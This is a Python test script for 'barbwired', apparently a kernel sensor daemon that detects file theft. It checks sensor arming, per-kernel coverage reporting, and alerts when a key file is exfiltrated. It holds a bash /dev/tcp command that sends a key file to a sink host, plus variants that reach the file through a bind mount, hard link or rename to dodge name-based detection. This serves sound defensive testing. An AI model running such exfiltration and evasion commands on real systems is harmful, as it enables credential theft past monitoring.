#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""The minimum that must work on a kernel: barbwired is armed with the requested sensor, and raises the alert of one
theft, and of thefts of the same file by its other names.

usage: test-theft.py [--lockdown=MODE] SENSOR
--lockdown    set at run time; it cannot be lowered again
SENSOR        the sensor that barbwired must report; BW_SENSOR= is the requested one (also "auto")
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../harness"))

import harness
import tap
import varlink
from harness import touches
from net import HOST_V4, Net
from tap import require, require_equal

LOCKDOWN = "/sys/kernel/security/lockdown"
# $1: the key, $2: the sink, $3: what does not exist yet. Each reads it by another name, that no class has.
SEND = 'exec 3<>/dev/tcp/$2/443 && exec cat "$name" >&3'
NAMES = {
    "a bind mount": 'name=$3/${1##*/}; mkdir "$3" && mount --bind "${1%/*}" "$3" && ' + SEND,
    "a hard link": 'name=$3; ln "$1" "$3" && ' + SEND,
    "its name after a rename": 'name=$3; cat "$1" >/dev/null && mv "$1" "$3" && ' + SEND,
}


def locked_down(mode):
    with open(LOCKDOWN, "w", encoding="ascii") as file:
        file.write(mode)
    with open(LOCKDOWN, encoding="ascii") as file:
        require(f"[{mode}]" in file.read(), f"this kernel is not under lockdown={mode}")


def armed(bw, sensor):
    line = bw.stderr_since(0, "armed: ")
    require(f"sensor {sensor}," in line, f"armed with another sensor: {line}")


def status_tells(sensor, path):
    """What this kernel has not is no surprise: rows/expected.py has the cases that are missed for it."""
    with varlink.Connection(path) as c:
        not_monitored = c.call("GetStatus")["not_monitored"]
    kernel = harness.kernel_version()
    require_equal(any("mapped and closed before" in what for what in not_monitored), kernel < (5, 12),
                  f"mappings: {not_monitored}")
    require_equal(any("io_uring connects" in what for what in not_monitored),
                  sensor == "tracepoint" and kernel < (5, 19),
                  f"requests: {not_monitored}")
    require_equal(any("renamed or linked" in what for what in not_monitored),
                  sensor == "tracepoint" and kernel < (6, 13),
                  f"names: {not_monitored}")


def renamed(bw, net, home, script):
    key, content = home.key()
    other = os.path.join(home.root, b"other-" + os.path.basename(key))
    result = net.run(["unshare", "--mount", "/bin/bash", "-c", script, "bash", key, HOST_V4, other])
    require_equal(result.returncode, 0, result.stderr)
    net.sink.wait_arrived(content)
    names = other, os.path.join(other, os.path.basename(key))
    bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and any(touches(a, name) for name in names),
                  "an alert with the other name")


def ends(bw):
    bw.stop()
    bw.require_no_loss(harness.preemption_losses())


def main():
    sensor = sys.argv[-1]
    harness.require_machine()
    t = tap.Tap()
    for option in sys.argv[1:-1]:
        t.case(f"{option[2:]} is in force", locked_down, option.removeprefix("--lockdown="))
    with Net() as net, harness.Home() as home, \
            harness.Barbwired(args=[f"--listen={os.fsdecode(home.root)}/socket"]) as bw:
        t.case(f"armed with {sensor}", armed, bw, sensor)
        t.case("status tells what this kernel has not", status_tells, sensor,
               f"{os.fsdecode(home.root)}/socket")
        t.case("a theft raises an alert", bw.prove_delivered, net, home)
        for name, script in NAMES.items():
            t.case(f"the file by {name}", renamed, bw, net, home, script)
        t.case("exit 0, no loss", ends, bw)
    t.done()


if __name__ == "__main__":
    main()
